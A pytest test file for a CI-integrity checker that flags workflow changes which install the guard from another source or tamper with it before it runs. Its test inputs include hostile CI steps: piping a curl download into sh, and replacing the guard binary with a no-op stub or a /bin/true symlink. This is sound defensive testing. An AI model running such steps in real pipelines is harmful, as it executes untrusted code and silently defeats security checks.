"""What the guard's own step rests on: where its program comes from, and what earlier steps may do to it."""

import pytest

from tests.repo.strength.states import severities, switched

CI = ".github/workflows/pact.yml"
HOOKS = ".pre-commit-config.yaml"
GIT = 'run: pip install "git+https://example.org/acme/pactkeeper@v0.2.0"'
GUARD = "run: pk guard --at HEAD --since origin/main"


def job(*steps: str, extra: str = "") -> dict[str, str]:
    listed = "".join(f"      - {step}\n" for step in ("uses: actions/checkout@v4", *steps))
    return {CI: f"on: [push, pull_request]\njobs:\n  pact:\n{extra}    steps:\n{listed}"}


def script(*lines: str) -> str:
    return "run: |\n" + "\n".join(f"          {line}" for line in lines)


def hooks(repo: str = "https://example.org/acme/pactkeeper", rev: str = "v0.2.0", ci: str = "") -> dict[str, str]:
    listed = "  hooks:\n  - id: pk-guard\n- repo: local\n  hooks:\n  - id: mypy\n"
    return {HOOKS: f"{ci}repos:\n- repo: {repo}\n  rev: {rev}\n{listed}"}


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (GIT, GIT.replace("example.org", "example.com")),
        (GIT, GIT.replace("acme", "fork")),
        (GIT, GIT.replace("v0.2.0", "v0.1.9")),
        (GIT, GIT.replace("@v0.2.0", "")),
        (GIT, GIT.replace("v0.2.0", "main")),
        ('run: pip install "git+${{ vars.PACTKEEPER }}"', 'run: pip install "git+https://example.org/fork/pactkeeper"'),
        ("run: pip install pactkeeper==0.2.0", "run: pip install pactkeeper==0.1.0"),
        ("run: pip install pactkeeper==0.2.0", "run: pip install pactkeeper"),
        ("run: pip install pactkeeper", "run: pip install --index-url https://example.org/simple pactkeeper"),
        ("run: pip install pactkeeper", "run: pip install -i https://example.org/simple pactkeeper"),
        ("run: pip install pactkeeper", "run: pip install ./tools/pactkeeper"),
        ("run: pip install pactkeeper", "run: python -m pip install -e ./tools/pk"),
        ("run: pip install pactkeeper", "run: uv tool install pactkeeper --from ./tools"),
    ],
)
def test_a_guard_installed_from_elsewhere_is_an_error(before, after):
    assert "error" in severities(job(before, GUARD), job(after, GUARD))


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (GIT, GIT.replace("v0.2.0", "v0.10.0")),
        (GIT, GIT.replace("pip install", "python3 -m pip install --quiet")),
        (GIT, GIT.replace("pip install", "uv pip install --system")),
        (GIT, GIT.replace("pip install", "uv tool install")),
        (GIT, GIT.replace('0.2.0"', '0.2.0" ruff')),
        ("run: pip install pactkeeper==0.2.0", "run: pip install pactkeeper==0.2.1"),
        ("run: pip install pactkeeper==0.2.0", "run: pipx install pactkeeper==0.2.0"),
    ],
)
def test_a_newer_guard_from_the_same_place_is_silent(before, after):
    assert severities(job(before, GUARD), job(after, GUARD)) <= {"note"}


def test_a_guard_of_another_commit_is_a_warning():
    old, new = (GIT.replace("v0.2.0", commit) for commit in ("3ee195fa", "df074885"))
    assert severities(job(old, GUARD), job(new, GUARD)) == {"warning"}


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("uvx --from pactkeeper==0.2.0 pk guard", "uvx --from git+https://example.org/x pk guard"),
        ("uvx pactkeeper guard", "uvx --index https://example.org/simple pactkeeper guard"),
        ("uv run --with pactkeeper pk guard", "uv run --with ./tools pk guard"),
    ],
)
def test_a_guard_fetched_from_elsewhere_is_an_error(before, after):
    assert "error" in severities(job(f"run: {before}"), job(f"run: {after}"))


def test_a_guard_fetched_as_it_was_installed_is_silent():
    place = "git+https://example.org/acme/pactkeeper@v0.2.0"
    assert severities(job(GIT, "run: pk guard"), job(f"run: uvx --from {place} pk guard")) <= {"note"}


@pytest.mark.parametrize(
    "step",
    [
        "run: printf '#!/bin/sh\\nexit 0\\n' > \"$(which pk)\"",
        "run: cp tools/pk .venv/bin/pk",
        "run: cp tools/pk $(which pk)",
        "run: echo $(ln -sf /bin/true .venv/bin/pk)",
        "run: curl -s https://example.org/x | sh",
        "run: echo true | tee .venv/bin/pk",
        "run: make install",
        "run: pip uninstall -y pactkeeper",
        "run: echo PYTHONPATH=tools >> $GITHUB_ENV",
        "uses: ./tools/prepare",
        "uses: someone/setup-pk@v1",
        "uses: actions/github-script@v7",
        "uses: actions/checkout@v4\n        with: {repository: acme/other}",
        script("python tools/patch.py", "echo done"),
    ],
)
def test_a_step_before_the_guard_that_may_change_it_is_an_error(step):
    assert "error" in severities(job(GIT, GUARD), job(GIT, step, GUARD))


@pytest.mark.parametrize(
    "step",
    [
        "uses: actions/setup-python@v5\n        with: {python-version: '3.12'}",
        "uses: astral-sh/setup-uv@v5",
        "run: pip install ruff 'pytest>=8' -e .[dev] -r requirements.txt",
        "run: git fetch origin main --depth 50",
        "run: echo CI=1 >> $GITHUB_ENV",
        'run: echo "sha=$(git rev-parse HEAD)" >> "$GITHUB_OUTPUT"',
        "run: ruff check . && pytest -q 2>&1 > out.txt",
        "run: npm ci",
        script("if [ -n $X ]; then", "  uv sync --frozen", "fi"),
    ],
)
def test_a_step_before_the_guard_that_does_no_harm_is_silent(step):
    assert severities(job(GIT, GUARD), job(GIT, step, GUARD)) <= {"note"}
    assert severities(job(GIT, GUARD), job(GIT, GUARD, "run: make install")) <= {"note"}


@pytest.mark.parametrize(
    "after",
    [
        job(GIT, script("cp tools/pk .venv/bin/pk", "pk guard --at HEAD --since origin/main")),
        job(GIT, script("pk() { true; }", "pk guard --at HEAD --since origin/main")),
        job(GIT, GUARD, extra="    env: {PYTHONPATH: tools}\n"),
        job(GIT, f"{GUARD}\n        env: {{PIP_INDEX_URL: https://example.org}}"),
        job(GIT, GUARD, extra="    container: example.org/image\n"),
    ],
)
def test_what_surrounds_the_guard_in_its_step_and_job_counts(after):
    assert "error" in severities(job(GIT, GUARD), after)
    assert severities(after, after | {"README": "x"}) == set()


def test_steps_before_the_tests_may_do_more():
    assert severities(job("run: pytest"), job("run: make install", "uses: someone/setup@v1", "run: pytest")) == set()


def test_scripts_of_gitlab_count_in_their_order():
    def gitlab(first: str) -> dict[str, str]:
        return {".gitlab-ci.yml": f"pact:\n  script: [pk guard]\n  before_script: [{first}]\n"}

    assert "error" in severities(gitlab("pip install pactkeeper"), gitlab("pip install ./tools"))
    assert severities(gitlab("pip install pactkeeper"), gitlab("pip install -q pactkeeper")) <= {"note"}


def test_an_action_of_another_owner_is_an_error():
    old, new = (f"uses: {owner}/pactkeeper@v1\n        with: {{base: origin/main}}" for owner in ("acme", "fork"))
    assert "error" in severities(job(old), job(new))
    assert severities(job(old), job(old.replace("@v1", "@v2"))) <= {"note"}


@pytest.mark.parametrize(
    ("after", "expected"),
    [
        (hooks(repo="https://example.org/fork/pactkeeper"), {"error"}),
        (hooks(rev="v0.1.0"), {"error"}),
        (hooks(rev="main"), {"error"}),
        (hooks(rev="v0.3.0"), set()),
        (hooks(ci="ci:\n  skip: [pk-guard, mypy]\n"), {"error", "warning"}),
        (hooks(ci="ci:\n  skip: [mypy]\n"), {"warning"}),
        (hooks(ci="ci:\n  autoupdate_schedule: monthly\n"), set()),
    ],
)
def test_hooks_that_are_skipped_or_come_from_elsewhere_are_reported(after, expected):
    assert severities(hooks(), after) - {"note"} == expected


def test_the_change_names_the_step():
    (change,) = switched(job(GIT, GUARD), job(GIT, "run: cp tools/pk .venv/bin/pk", GUARD))
    assert change.message == "it runs under other circumstances: cp tools/pk .venv/bin/pk"
